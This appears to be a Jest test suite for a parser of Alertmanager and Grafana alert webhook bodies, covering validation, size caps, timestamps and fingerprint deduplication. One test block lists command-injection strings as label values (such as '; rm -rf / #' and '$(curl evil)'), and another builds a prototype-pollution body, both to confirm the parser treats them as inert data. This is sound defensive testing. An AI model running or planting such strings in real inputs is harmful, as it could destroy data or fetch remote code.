import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "@jest/globals";
import { type Notification, newestPerFingerprint, notificationCaps, parseNotification } from "./notification.ts";

const receivedAt = Date.UTC(2026, 10, 23, 6);
const fixtures = join(import.meta.dirname, "fixtures");

function anAlertBody(fields: object = {}): object {
  return {
    status: "firing",
    labels: { alertname: "LLMBudgetBurnFast" },
    annotations: {},
    startsAt: "2026-11-23T05:00:00Z",
    endsAt: "0001-01-01T00:00:00Z",
    generatorURL: "http://prometheus/graph",
    fingerprint: "c1acb3495e10a2ff",
    ...fields,
  };
}

function aBody(fields: object = {}): object {
  return { version: "4", groupKey: "{}:{}", receiver: "runbookd", truncatedAlerts: 0, alerts: [anAlertBody()], ...fields };
}

function accepted(body: unknown): Notification {
  const parsed = parseNotification(body, receivedAt);
  if (!parsed.ok) throw new Error(parsed.issues.join("\n"));
  return parsed.notification;
}

function issues(body: unknown): readonly string[] {
  const parsed = parseNotification(body, receivedAt);
  return parsed.ok ? [] : parsed.issues;
}

const withLabels = (labels: unknown) => aBody({ alerts: [anAlertBody({ labels })] });

describe("recorded notifications of Alertmanager 0.25", () => {
  const files = readdirSync(fixtures).filter((file) => file.startsWith("alertmanager-") && file.endsWith(".good.json"));

  it("are eleven", () => {
    expect(files).toHaveLength(11);
  });

  it.each(files)("%s is accepted with every alert", (file) => {
    const recorded: { body: { alerts: { status: string; fingerprint: string }[]; truncatedAlerts: number } } = JSON.parse(
      readFileSync(join(fixtures, file), "utf8"),
    );
    const { body } = recorded;
    const notification = accepted(body);
    expect(notification.alerts.map(({ alert }) => [alert.status, alert.fingerprint])).toEqual(
      body.alerts.map(({ status, fingerprint }) => [status, fingerprint]),
    );
    expect(notification.alerts.filter(({ alert }) => (alert.status === "resolved") !== (alert.endsAt !== undefined))).toEqual([]);
    expect(notification.truncatedAlerts).toBe(body.truncatedAlerts);
  });
});

/** Written by hand after the documented body; https://grafana.com/docs/grafana/latest/alerting/configure-notifications/manage-contact-points/integrations/webhook-notifier/ */
describe("notifications of Grafana Alerting", () => {
  const checkout = { status: "firing", sender: "grafana", fingerprint: "c6eadffa33fcdf37" };
  const began = Date.UTC(2026, 10, 23, 4, 51, 3, 157);
  it.each([
    ["grafana-01-firing-values", [{ ...checkout, startsAt: began, labels: { alertname: "LLMBudgetBurnFast", budget: "checkout" } }]],
    ["grafana-02-firing-value-string-only", [checkout]],
    ["grafana-03-resolved", [{ ...checkout, status: "resolved", endsAt: Date.UTC(2026, 10, 23, 5, 2, 13, 157) }]],
    ["grafana-04-mixed-images", [checkout, { status: "resolved", labels: { budget: "search" } }]],
    ["grafana-05-no-data", [{ labels: { alertname: "DatasourceNoData", rulename: "LLMBudgetBurnFast" } }]],
  ])("%s is accepted with every alert, which says who sent it", (name, alerts) => {
    const recorded: { body: unknown } = JSON.parse(readFileSync(join(fixtures, `${name}.good.json`), "utf8"));
    const received = accepted(recorded.body).alerts;
    expect(received.map(({ clockFault }) => clockFault)).toEqual(alerts.map(() => undefined));
    expect(received.map(({ alert }) => alert)).toMatchObject(alerts);
  });

  it("are all that there are fixtures of", () => {
    expect(readdirSync(fixtures).filter((file) => file.startsWith("grafana-"))).toHaveLength(5);
  });

  it("name no sender when Alertmanager sent them", () => {
    expect(accepted(aBody()).alerts[0]?.alert).not.toHaveProperty("sender");
  });
});

describe("version and shape", () => {
  it.each([
    ["another version", aBody({ version: "3" })],
    ["no version", aBody({ version: undefined })],
    ["version 1 without Grafana's orgId", aBody({ version: "1" })],
    ["no alerts", aBody({ alerts: undefined })],
    ["an unknown status", aBody({ alerts: [anAlertBody({ status: "weird" })] })],
    ["an empty fingerprint", aBody({ alerts: [anAlertBody({ fingerprint: "" })] })],
    ["a fingerprint of 10 kB", aBody({ alerts: [anAlertBody({ fingerprint: "f".repeat(10_000) })] })],
    ["a time that is none", aBody({ alerts: [anAlertBody({ startsAt: "yesterday" })] })],
    ["a month that is none", aBody({ alerts: [anAlertBody({ startsAt: "2026-13-01T00:00:00Z" })] })],
    ["null", null],
    ["a list", []],
    ["a text", "x"],
  ])("refuses %s and says where", (_name, body) => {
    expect(issues(body).length).toBeGreaterThan(0);
  });

  it("names the field and what would be accepted", () => {
    expect(issues(aBody({ version: "3" }))[0]).toContain('version: expected "4"');
    expect(issues(aBody({ alerts: [anAlertBody({ startsAt: "soon" })] }))[0]).toContain("alerts.0.startsAt: expected an RFC 3339 time");
  });

  it("says no more than twenty faults of a large body", () => {
    expect(issues(aBody({ alerts: Array.from({ length: 100 }, () => ({})) }))).toHaveLength(20);
  });

  it("drops fields it does not know", () => {
    expect(accepted(aBody({ notification_reason: "first notification", routeLabels: {} })).alerts).toHaveLength(1);
  });

  it("accepts Grafana Alerting's webhook, a superset with its own version", () => {
    const alert = anAlertBody({ startsAt: "2026-11-23T07:51:03.157076+02:00", silenceURL: "https://grafana/silence", values: { B: 44.2 } });
    const [received] = accepted(aBody({ version: "1", orgId: 1, title: "[FIRING:1]", state: "alerting", alerts: [alert] })).alerts;
    expect(received?.alert.startsAt).toBe(Date.parse("2026-11-23T05:51:03.157Z"));
  });

  it("accepts a notification without alerts", () => {
    expect(accepted(aBody({ alerts: [] })).alerts).toEqual([]);
  });

  it.each(["active", "wait", "meta", "a:b", "0:1", "123", "{x}*?"])("accepts the fingerprint %s as it stands", (fingerprint) => {
    expect(accepted(aBody({ alerts: [anAlertBody({ fingerprint })] })).alerts[0]?.alert.fingerprint).toBe(fingerprint);
  });
});

describe("labels and annotations are data", () => {
  const hostile = [
    "; rm -rf / #",
    "$(curl evil)",
    "`id`",
    "%0a",
    "a && b | c",
    "line\nbreak",
    "\u2028",
    "\uFEFFbom",
    "\u202Eoverride",
    "zero\u200Bwidth",
    "{{constructor}}",
  ];

  it.each(hostile)("keeps %j as it is", (value) => {
    expect(accepted(withLabels({ alertname: value })).alerts[0]?.alert.labels).toEqual({ alertname: value });
  });

  it("keeps names that JavaScript's prototypes have as plain data", () => {
    const labels: unknown = JSON.parse('{"__proto__":"a","constructor":"b","toString":"c"}');
    const kept = accepted(withLabels(labels)).alerts[0]?.alert.labels ?? {};
    expect(Object.entries(kept)).toEqual([
      ["__proto__", "a"],
      ["constructor", "b"],
      ["toString", "c"],
    ]);
    expect(Object.getPrototypeOf(kept)).toBe(Object.prototype);
  });

  it("is not polluted by a body", () => {
    const body: unknown = JSON.parse(
      `{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},${JSON.stringify(aBody()).slice(1)}`,
    );
    accepted(body);
    expect("admin" in {}).toBe(false);
  });

  it.each([
    ["NUL in a value", { alertname: "a\0b" }],
    ["NUL in a name", { "a\0b": "x" }],
    ["an empty name", { "": "x" }],
    ["a value of 64 kB", { alertname: "x".repeat(65_536) }],
    ["a value one byte too long in UTF-8", { alertname: `${"x".repeat(notificationCaps.labelValueBytes - 1)}é` }],
    ["1,000 labels", Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`l${index}`, "x"]))],
    ["a number", { alertname: 1 }],
    ["a list", ["alertname"]],
    ["nothing", null],
  ])("refuses labels with %s", (_name, labels) => {
    expect(issues(withLabels(labels))).toHaveLength(1);
  });

  it("accepts labels at their caps", () => {
    const labels = Object.fromEntries(
      Array.from({ length: notificationCaps.labels }, (_, index) => [`l${index}`, "x".repeat(notificationCaps.labelValueBytes)]),
    );
    expect(issues(withLabels(labels))).toEqual([]);
  });

  it("cuts a long annotation and keeps the alert", () => {
    const [received] = accepted(aBody({ alerts: [anAlertBody({ annotations: { summary: "x".repeat(100_000) } })] })).alerts;
    expect(received?.alert.annotations["summary"]).toHaveLength(notificationCaps.annotationCharacters + 1);
  });
});

describe("times", () => {
  const one = (fields: object) => accepted(aBody({ alerts: [anAlertBody(fields)] })).alerts[0];

  it("reads nanoseconds and lets a firing alert have no end, whatever the sender forecasts", () => {
    const received = one({ startsAt: "2026-11-23T05:00:00.123456789Z", endsAt: "2026-11-23T07:00:00Z" });
    expect(received?.alert).toMatchObject({ startsAt: Date.UTC(2026, 10, 23, 5, 0, 0, 123) });
    expect(received?.alert.endsAt).toBeUndefined();
  });

  it("accepts a start in 1970", () => {
    expect(one({ startsAt: "1970-01-01T00:00:00Z" })).toEqual({ alert: expect.objectContaining({ startsAt: 0 }) });
  });

  it("flags a start in 2099 and uses the time of receipt", () => {
    const received = one({ startsAt: "2099-01-01T00:00:00Z" });
    expect(received?.alert.startsAt).toBe(receivedAt);
    expect(received?.clockFault).toContain("ahead of ours");
  });

  it("trusts a start that is less than five minutes ahead", () => {
    expect(one({ startsAt: "2026-11-23T06:04:59Z" })?.clockFault).toBeUndefined();
  });

  it("gives a resolved alert without an end the time of receipt", () => {
    expect(one({ status: "resolved" })?.alert.endsAt).toBe(receivedAt);
  });
});

describe("one fingerprint twice in one notification", () => {
  const firing = anAlertBody();
  const resolvedLater = anAlertBody({ status: "resolved", endsAt: "2026-11-23T05:30:00Z" });
  const firingAgain = anAlertBody({ startsAt: "2026-11-23T05:45:00Z" });

  it.each([
    ["a resolve after the firing", [firing, resolvedLater], "resolved"],
    ["the same in the other order", [resolvedLater, firing], "resolved"],
    ["a firing after the resolve", [resolvedLater, firingAgain], "firing"],
    ["a resolve at the moment of the firing", [firing, anAlertBody({ status: "resolved", endsAt: "2026-11-23T05:00:00Z" })], "resolved"],
  ])("%s: the newest speaks", (_name, alerts, status) => {
    const newest = newestPerFingerprint(accepted(aBody({ alerts })).alerts);
    expect(newest.map(({ alert }) => alert.status)).toEqual([status]);
  });
});
